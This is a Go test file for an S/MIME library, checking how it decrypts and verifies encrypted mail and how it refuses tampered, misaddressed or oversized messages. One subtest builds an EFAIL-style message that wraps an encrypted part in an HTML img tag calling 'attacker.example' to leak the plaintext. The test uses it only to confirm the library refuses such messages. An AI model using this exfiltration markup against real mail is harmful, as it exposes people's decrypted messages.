package smime

import (
	"bytes"
	"crypto/x509"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mailseal/mailseal/internal/classify"
	"github.com/mailseal/mailseal/internal/cms"
	"github.com/mailseal/mailseal/internal/keys/keystest"
	"github.com/mailseal/mailseal/internal/sentence"
	"github.com/mailseal/mailseal/internal/testpki"
)

// encryptionFixture is a sender (alice, V2) and a reader (bob) whose certificates may encrypt.
type encryptionFixture struct {
	pki        *testpki.PKI
	alice, bob *testpki.Identity
	opts       Options
}

func newEncryptionFixture(t testing.TB) *encryptionFixture {
	pki := testpki.MustNew(t)
	ku := x509.KeyUsageDigitalSignature | x509.KeyUsageKeyEncipherment
	a := testpki.IndividualProfile(testpki.Strict, "alice@example.com", "Alice", "Liddell")
	a.KeyUsage = ku
	b := testpki.MailboxProfile(testpki.Strict, "bob@example.org")
	b.KeyUsage, b.Key = ku, testpki.RSA2048B
	return &encryptionFixture{pki: pki, alice: pki.MustIssue(t, a), bob: pki.MustIssue(t, b),
		opts: Options{Roots: []*x509.Certificate{pki.Root}, NoBundledRoots: true, Now: testpki.Epoch.Add(time.Hour)}}
}

func (f *encryptionFixture) header() testpki.Header {
	return testpki.Header{From: "Alice <alice@example.com>", To: "bob@example.org", Subject: "Your code"}
}

func (f *encryptionFixture) keys(ids ...*testpki.Identity) []cms.Key {
	var out []cms.Key
	for _, id := range ids {
		out = append(out, cms.Key{Certificate: id.Certificate, Private: keystest.BareKey(id.Key)})
	}
	return out
}

// encrypted is a message from alice whose whole body is entity encrypted to the recipients.
func (f *encryptionFixture) encrypted(t testing.TB, entity []byte, opts cms.EncryptOptions, to ...*testpki.Identity) []byte {
	t.Helper()
	var certs []*x509.Certificate
	for _, id := range to {
		certs = append(certs, id.Certificate)
	}
	der, err := cms.Encrypt(entity, certs, opts)
	if err != nil {
		t.Fatal(err)
	}
	return testpki.Message(f.header(), testpki.EncryptedEntity(der, opts.Authenticated))
}

var secretText = testpki.TextContent("The code is 4711.\r\n")

// requireCoded fails unless every reason, note and check of r (and of its attached reports)
// carries a sentence code whose English is the sentence itself: what the extension says in
// the reader's language must be what the report says in English.
func requireCoded(t testing.TB, r *Report) {
	t.Helper()
	if len(r.Reasons) != len(r.ReasonCodes) || len(r.Notes) != len(r.NoteCodes) {
		t.Fatalf("%d reasons, %d codes; %d notes, %d codes: %v %v", len(r.Reasons), len(r.ReasonCodes), len(r.Notes), len(r.NoteCodes), r.Reasons, r.Notes)
	}
	for i, c := range r.ReasonCodes {
		if c.String() != r.Reasons[i] {
			t.Errorf("reason %q has the code %s, which says %q", r.Reasons[i], c.Code, c.String())
		}
	}
	for i, c := range r.NoteCodes {
		if c.String() != r.Notes[i] {
			t.Errorf("note %q has the code %s, which says %q", r.Notes[i], c.Code, c.String())
		}
	}
	for _, c := range r.Checks {
		if c.Code == "" || (sentence.Text{Code: c.Code, Args: c.Args, Then: c.Then}).String() != c.Detail || !slices.Contains(CheckNames, c.Name) {
			t.Errorf("check %s %q has the code %q", c.Name, c.Detail, c.Code)
		}
	}
	for _, a := range r.Attached {
		requireCoded(t, a.Report)
	}
}

func TestOpenEncryptedOnly(t *testing.T) {
	f := newEncryptionFixture(t)
	for _, gcm := range []bool{false, true} {
		msg := f.encrypted(t, secretText, cms.EncryptOptions{Authenticated: gcm}, f.bob, f.alice)
		o, err := Open(msg, f.keys(f.bob), f.opts)
		if err != nil {
			t.Fatal(err)
		}
		r := o.Report
		requireCoded(t, r)
		if r.Status != StatusUnsigned || r.Encryption == nil || !r.Encryption.Decrypted {
			t.Fatalf("gcm=%v: %s %+v %v", gcm, r.Status, r.Encryption, r.Reasons)
		}
		if !bytes.Equal(o.Content, secretText) {
			t.Errorf("content %q", o.Content)
		}
		if r.Encryption.TamperEvident != gcm || r.Encryption.Recipients != 2 || r.Encryption.Key != "bob@example.org" {
			t.Errorf("encryption %+v", r.Encryption)
		}
		cbcNote := slices.ContainsFunc(r.Notes, func(n string) bool { return strings.Contains(n, "does not detect changes") })
		if cbcNote == gcm {
			t.Errorf("gcm=%v: the not-tamper-evident note is %v: %v", gcm, cbcNote, r.Notes)
		}
		if !strings.HasPrefix(r.Banner, "Encrypted, not signed") {
			t.Errorf("banner %q", r.Banner)
		}
		if strings.Contains(r.Banner+strings.Join(r.Reasons, "")+strings.Join(r.Notes, ""), "4711") {
			t.Error("the decrypted text reached the report")
		}
	}
}

func TestOpenSignedThenEncrypted(t *testing.T) {
	f := newEncryptionFixture(t)
	for _, detached := range []bool{false, true} {
		signed, err := testpki.SignedEntity(secretText, []*testpki.Identity{f.alice}, cms.SignOptions{Detached: detached})
		if err != nil {
			t.Fatal(err)
		}
		msg := f.encrypted(t, signed, cms.EncryptOptions{Authenticated: true}, f.bob, f.alice)
		o, err := Open(msg, f.keys(f.bob), f.opts)
		if err != nil {
			t.Fatal(err)
		}
		r := o.Report
		requireCoded(t, r)
		if r.Status != StatusValid || r.Level != classify.LevelV2 || r.Encryption == nil || r.Encryption.Signature != "inside" {
			t.Fatalf("detached=%v: %s %s %+v %v", detached, r.Status, r.Level, r.Encryption, r.Reasons)
		}
		if !strings.HasPrefix(r.Banner, "Encrypted and signed · V2 · alice@example.com · Alice Liddell") {
			t.Errorf("banner %q", r.Banner)
		}
		if !bytes.Equal(o.Content, secretText) {
			t.Errorf("content %q", o.Content)
		}
		// The signed content names nobody: the report must not imply it was written to bob.
		if len(r.Encryption.AddressedTo) != 0 || !slices.ContainsFunc(r.Notes, func(n string) bool { return strings.Contains(n, "does not say whom it was written to") }) {
			t.Errorf("addressedTo %v, notes %v", r.Encryption.AddressedTo, r.Notes)
		}
		if r.Checks[0].Name != "decryption" || !r.Checks[0].OK {
			t.Errorf("checks %+v", r.Checks)
		}
	}
}

func TestOpenNamesTheRecipientsOfTheSignedContent(t *testing.T) {
	f := newEncryptionFixture(t)
	// Protected headers: the signed entity repeats To, as the signer wrote it (to carol).
	inner := append([]byte("To: carol@example.net\r\n"), secretText...)
	signed, err := testpki.SignedEntity(inner, []*testpki.Identity{f.alice}, cms.SignOptions{})
	if err != nil {
		t.Fatal(err)
	}
	o, err := Open(f.encrypted(t, signed, cms.EncryptOptions{}, f.bob), f.keys(f.bob), f.opts)
	if err != nil {
		t.Fatal(err)
	}
	if got := o.Report.Encryption.AddressedTo; len(got) != 1 || got[0] != "carol@example.net" {
		t.Fatalf("addressedTo %v", got)
	}
}

func TestOpenEncryptedThenSigned(t *testing.T) {
	f := newEncryptionFixture(t)
	der, err := cms.Encrypt(secretText, []*x509.Certificate{f.bob.Certificate}, cms.EncryptOptions{})
	if err != nil {
		t.Fatal(err)
	}
	msg, err := testpki.SignedMessage(f.header(), testpki.EncryptedEntity(der, false), []*testpki.Identity{f.alice}, cms.SignOptions{})
	if err != nil {
		t.Fatal(err)
	}
	o, err := Open(msg, f.keys(f.bob), f.opts)
	if err != nil {
		t.Fatal(err)
	}
	r := o.Report
	requireCoded(t, r)
	if r.Status != StatusValid || r.Encryption == nil || !r.Encryption.Decrypted || r.Encryption.Signature != "outside" {
		t.Fatalf("%s %+v %v", r.Status, r.Encryption, r.Reasons)
	}
	if !bytes.Equal(o.Content, secretText) {
		t.Errorf("content %q", o.Content)
	}
	if slices.Contains(r.Notes, say("note_content_encrypted").String()) {
		t.Errorf("the report still says the content is unknown: %v", r.Notes)
	}
}

func TestOpenRefusals(t *testing.T) {
	f := newEncryptionFixture(t)
	mallory := f.pki.MustIssue(t, testpki.MailboxProfile(testpki.Strict, "mallory@example.net"))
	msg := f.encrypted(t, secretText, cms.EncryptOptions{Authenticated: true}, f.bob)

	for _, c := range []struct {
		name    string
		msg     []byte
		keys    []cms.Key
		problem string
		reason  string
	}{
		{"no key", msg, nil, "no-key", "unlock your identity"},
		{"not for you", msg, f.keys(mallory), "not-for-you", "not encrypted to any of your certificates"},
		{"tampered", tamperCiphertext(t, msg), f.keys(f.bob), "failed", "could not be decrypted"},
	} {
		t.Run(c.name, func(t *testing.T) {
			o, err := Open(c.msg, c.keys, f.opts)
			if err != nil {
				t.Fatal(err)
			}
			r := o.Report
			requireCoded(t, r)
			if r.Status != StatusEncrypted || r.Encryption == nil || r.Encryption.Problem != c.problem || o.Content != nil {
				t.Fatalf("%s %+v", r.Status, r.Encryption)
			}
			if len(r.Reasons) != 1 || !strings.Contains(r.Reasons[0], c.reason) {
				t.Errorf("reasons %v", r.Reasons)
			}
		})
	}

	t.Run("encrypted part in an unsigned message", func(t *testing.T) {
		der, _ := cms.Encrypt(secretText, []*x509.Certificate{f.bob.Certificate}, cms.EncryptOptions{})
		efail := testpki.Message(f.header(), testpki.Mixed(
			testpki.TextContent("<img src=\"http://attacker.example/?"),
			testpki.EncryptedEntity(der, false),
			testpki.TextContent("\">")))
		o, err := Open(efail, f.keys(f.bob), f.opts)
		if err != nil {
			t.Fatal(err)
		}
		r := o.Report
		requireCoded(t, r)
		if o.Content != nil || r.Status != StatusPartial || r.Encryption == nil || r.Encryption.Problem != "part-only" {
			t.Fatalf("%s %+v content=%q", r.Status, r.Encryption, o.Content)
		}
		if !slices.ContainsFunc(r.Reasons, func(s string) bool { return strings.Contains(s, "part 2 is encrypted") }) {
			t.Errorf("reasons %v", r.Reasons)
		}
	})
	t.Run("encrypted part in a signed message", func(t *testing.T) {
		der, _ := cms.Encrypt(secretText, []*x509.Certificate{f.bob.Certificate}, cms.EncryptOptions{})
		// The signer wraps a ciphertext it did not write: the part stays closed.
		msg, err := testpki.SignedMessage(f.header(), testpki.Mixed(testpki.TextContent("see below"), testpki.EncryptedEntity(der, false)),
			[]*testpki.Identity{f.alice}, cms.SignOptions{})
		if err != nil {
			t.Fatal(err)
		}
		o, err := Open(msg, f.keys(f.bob), f.opts)
		if err != nil {
			t.Fatal(err)
		}
		requireCoded(t, o.Report)
		if o.Content != nil || o.Report.Encryption == nil || o.Report.Encryption.Problem != "part-only" {
			t.Fatalf("%s %+v", o.Report.Status, o.Report.Encryption)
		}
	})
}

// tamperCiphertext flips a bit of the encrypted content, deep inside the base64 body.
func tamperCiphertext(t *testing.T, msg []byte) []byte {
	i := bytes.LastIndex(msg, []byte("\r\n\r\n"))
	body := string(msg[i:])
	body = strings.TrimSpace(body)
	lines := strings.Split(body, "\r\n")
	// The last lines hold the ciphertext and MAC; change a character of the second to last.
	l := lines[len(lines)-2]
	c := byte('A')
	if l[10] == 'A' {
		c = 'B'
	}
	lines[len(lines)-2] = l[:10] + string(c) + l[11:]
	return append(bytes.Clone(msg[:i+4]), strings.Join(lines, "\r\n")+"\r\n"...)
}

func TestOpenRefusesAnOversizedMessage(t *testing.T) {
	f := newEncryptionFixture(t)
	msg := f.encrypted(t, secretText, cms.EncryptOptions{}, f.bob)
	opts := f.opts
	opts.MaxSize = int64(len(msg) - 1)
	o, err := Open(msg, f.keys(f.bob), opts)
	if err != nil {
		t.Fatal(err)
	}
	if o.Content != nil || o.Report.Status != StatusMalformed {
		t.Fatalf("%s, content of %d bytes", o.Report.Status, len(o.Content))
	}
}

// BenchmarkOpen decrypts and verifies a signed-then-encrypted message of about 1 MB.
func BenchmarkOpen(b *testing.B) {
	f := newEncryptionFixture(b)
	body := testpki.TextContent(strings.Repeat("The code is 4711. ", 55000))
	signed, err := testpki.SignedEntity(body, []*testpki.Identity{f.alice}, cms.SignOptions{})
	if err != nil {
		b.Fatal(err)
	}
	for _, gcm := range []bool{false, true} {
		msg := f.encrypted(b, signed, cms.EncryptOptions{Authenticated: gcm}, f.bob)
		b.Run(map[bool]string{false: "aes-256-cbc", true: "aes-256-gcm"}[gcm], func(b *testing.B) {
			b.SetBytes(int64(len(msg)))
			for b.Loop() {
				if o, err := Open(msg, f.keys(f.bob), f.opts); err != nil || o.Content == nil {
					b.Fatal(err)
				}
			}
		})
	}
}
